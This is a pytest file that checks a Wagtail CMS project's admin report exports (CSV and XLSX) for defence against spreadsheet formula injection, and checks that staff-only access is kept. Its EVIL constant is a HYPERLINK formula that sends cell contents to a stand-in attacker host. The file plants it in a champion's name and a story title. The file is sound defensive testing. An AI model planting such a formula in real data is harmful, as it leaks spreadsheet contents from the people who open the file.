"""Wagtail's own report downloads neutralise spreadsheet formulas like the project's exports.

A champion chooses their name and their story's title; both reach these reports.
"""

import csv
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from cms.services.stories import story_draft_submit
from tests.factories.accounts import StaffFactory
from tests.factories.champions import ChampionFactory
from tests.factories.cms import story_index

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
REPORTS = ["site-history", "workflow", "workflow_tasks", "aging-pages", "locked"]


@pytest.fixture
def staff_client(client):
    story_index()
    champion = ChampionFactory(preferred_name=EVIL, user__first_name=EVIL, user__last_name="")
    story = story_draft_submit(
        champion=champion, title=EVIL, summary="Summary", text="How I found my voice."
    )
    staff = StaffFactory(is_superuser=True)
    story.save_revision(user=staff).publish(user=staff)
    story.refresh_from_db()
    story.locked, story.locked_by, story.locked_at = True, staff, timezone.now()
    story.save()
    client.force_login(staff)
    return client


def _download(client, report, export_format):
    response = client.get(f"/admin/reports/{report}/?export={export_format}")
    assert response.status_code == 200, report
    return b"".join(response.streaming_content)


def _csv_cells(content):
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


def _xlsx_cells(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("report", REPORTS)
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_report_downloads_neutralise_formulas(staff_client, report, export_format):
    content = _download(staff_client, report, export_format)
    cells = [str(c) for c in (_csv_cells if export_format == "csv" else _xlsx_cells)(content)]
    planted = [c for c in cells if "HYPERLINK" in c]
    assert planted, f"the planted value should be in the {report} report"
    assert all(c == "'" + EVIL for c in planted), planted
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]


def test_report_pages_still_list_the_planted_value_as_text(staff_client):
    response = staff_client.get("/admin/reports/site-history/")
    assert response.status_code == 200
    assert b"HYPERLINK" in response.content


@pytest.mark.parametrize("report", REPORTS)
def test_report_downloads_still_need_the_admin(client, report):
    client.force_login(ChampionFactory().user)
    for url in (f"/admin/reports/{report}/?export=csv", f"/admin/reports/{report}/results/"):
        response = client.get(url)
        assert response.status_code == 403, url
        assert b"This part of the site is for programme staff" in response.content
